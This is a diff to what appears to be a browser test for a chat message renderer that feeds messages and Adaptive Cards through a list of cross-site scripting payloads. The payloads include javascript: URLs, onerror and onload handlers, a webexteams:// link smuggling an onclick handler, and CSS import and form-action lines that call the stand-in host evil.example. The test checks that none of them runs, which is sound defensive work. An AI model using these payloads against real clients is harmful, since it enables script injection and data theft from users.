@@ -22,6 +22,8 @@ PAYLOADS = (
     f"<img src=x onerror='{SCRIPT}'>",
     f"<svg onload='{SCRIPT}'><iframe srcdoc='<script>parent.{SCRIPT}</script>'>",
     f"[x](javascript:{SCRIPT})",
+    f"javascript:{SCRIPT}",
+    f"[x](webexteams://im?space={'0' * 36}&message='onclick={SCRIPT}')",
     f"<a href='javascript:{SCRIPT}' id=composer name=body>x</a>",
     f"![x](https://evil.example/{SCRIPT}.png)",
     '"><style>@import "https://evil.example/x.css"</style><form action="https://evil.example">',
@@ -38,6 +40,10 @@ def card(text: str) -> dict[str, Any]:
         "body": [
             {"type": "TextBlock", "text": text, "wrap": True},
             {"type": "FactSet", "facts": [{"title": text, "value": text}]},
+            {
+                "type": "RichTextBlock",
+                "inlines": [{"type": "TextRun", "text": text, "selectAction": {"type": "Action.OpenUrl", "url": text}}],
+            },
         ],
         "actions": [{"type": "Action.Submit", "title": text, "data": {"x": text}}],
     }
@@ -88,8 +94,8 @@ def test_no_script_runs_and_nobody_is_called(browser: Browser, with_renderer: bo
         page.wait_for_function(
             "n => document.querySelectorAll('[data-message-id]').length >= n", arg=3 * len(PAYLOADS), timeout=SOON
         )
-        for link in page.locator("[data-message-id] a").all():
-            assert (link.get_attribute("href") or "").startswith(("http://127.0.0.1", "https://", "/emulator/"))
+        for address in page.locator("[data-message-id] a[href]").evaluate_all("links => links.map((a) => a.href)"):
+            assert address.startswith(("http://127.0.0.1", "https://"))
         found = page.evaluate(
             "() => [document.documentElement.dataset.pwned ?? '', document.querySelectorAll("
             "'[data-message-id] :is(script, iframe, form, style, object, svg[onload])').length]"
